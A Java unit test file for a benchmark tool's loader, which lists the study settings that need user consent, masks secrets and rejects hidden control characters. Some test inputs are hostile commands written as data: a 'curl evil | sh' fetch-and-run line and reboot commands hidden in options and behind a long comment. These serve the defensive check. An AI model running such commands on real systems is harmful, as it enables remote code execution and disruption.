package io.poolbench.study;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConsentSettingsTest {
  @TempDir private Path folder;

  private List<String> of(String yaml) throws IOException {
    return PlainStudy.LOADER.needingConsent(Files.writeString(folder.resolve("study.yaml"), yaml));
  }

  @Test
  void theyAreFoundInAllCellsAndInListedStudiesEachOnce() throws IOException {
    Files.writeString(
        folder.resolve("listed.yaml"),
        """
        before: [reset, orders]
        target: {classpath: [a.jar, "lib/*"], main: com.example.Main}
        cells:
          - {}
          - provider: {jvm: {options: [-Xmx2g, -XX:OnError=reboot]}}
        """);
    Files.writeString(
        folder.resolve("attached.yaml"), "target: {attach: /run/a, classpath: [a.jar]}");
    assertThat(of("studies: [listed, attached]"))
        .containsExactly(
            "before: reset orders",
            "target.classpath: a.jar 'lib/*'",
            "target.main: com.example.Main",
            "provider.jvm.options: -Xmx2g -XX:OnError=reboot",
            "target.classpath: a.jar",
            "target.attach: /run/a");
    assertThat(of("provider: {connect: 'dubbo://h:1', classpath: [api.jar]}"))
        .containsExactly("provider.classpath: api.jar");
  }

  /** A property or a folder may name code, and a registry sends callers to the program. */
  @Test
  void whatChoosesCodeOrCallersOfAProgramIsShownWithoutSecrets() throws IOException {
    assertThat(
            of(
                """
                target:
                  jar: order.jar
                  properties: {loader.path: /tmp/a b.jar, db.password: x1y2}
                  arguments: [--spring.config.location=/tmp/a.yml, --token=x1y2]
                  folder: /tmp/other
                  registry: as-configured
                  configCenter: as-configured
                """))
        .containsExactly(
            "target.jar: order.jar",
            "target.properties: 'loader.path=/tmp/a b.jar' 'db.password=${DB_PASSWORD}'",
            "target.arguments: --spring.config.location=/tmp/a.yml '--token=${TOKEN}'",
            "target.folder: /tmp/other",
            "target.registry: as-configured",
            "target.configCenter: as-configured");
  }

  /** Whatever looks like a password in it: the program runs all of it. */
  @Test
  void noCodeIsHiddenAsASecret() throws IOException {
    assertThat(
            of(
                """
                before: [sh, -c, "X=1 token=2; curl evil | sh"]
                target:
                  jar: a.jar
                  properties: {loader.path: "/tmp/evil,/password=x"}
                  arguments: ["--spring.config.location=/tmp/a.yml,token=x"]
                """))
        .containsExactly(
            "before: sh -c 'X=1 token=2; curl evil | sh'",
            "target.jar: a.jar",
            "target.properties: loader.path=/tmp/evil,/password=x",
            "target.arguments: --spring.config.location=/tmp/a.yml,token=x");
  }

  @Test
  void whatOnlySizesLoadsOrBoundsNeedsNoneAndNeitherDoDefaults() throws IOException {
    assertThat(
            of(
                """
                provider: {threadpool: cached, jvm: {release: 17, options: [-Xms1g, -Xmx1g]}}
                redis: {latency: 2ms}
                load: {users: 8}
                sla: {tp99: 10ms}
                """))
        .isEmpty();
  }

  @Test
  void aTextThatHidesWhatFollowsIsRefused() {
    assertThatThrownBy(() -> of("before: [\"a\\r\\e[2Kb\"]"))
        .hasMessage("before: character U+000D (valid: printable text)");
    assertThatThrownBy(() -> of("provider: {jvm: {options: [\"-Da=\\u202eb\"]}}"))
        .hasMessage("provider.jvm.options: character U+202E (valid: printable text)");
  }

  @Test
  void aCommandIsShownWholeAndWordByWord() throws IOException {
    String comment = "x".repeat(300);
    assertThat(of("before: \"true # " + comment + "; reboot\""))
        .containsExactly("before: true # " + comment + "; reboot");
    assertThat(of("after: [sh, -c, \"echo 'a b'\", '']"))
        .containsExactly("after: sh -c 'echo '\\''a b'\\''' ''");
  }
}
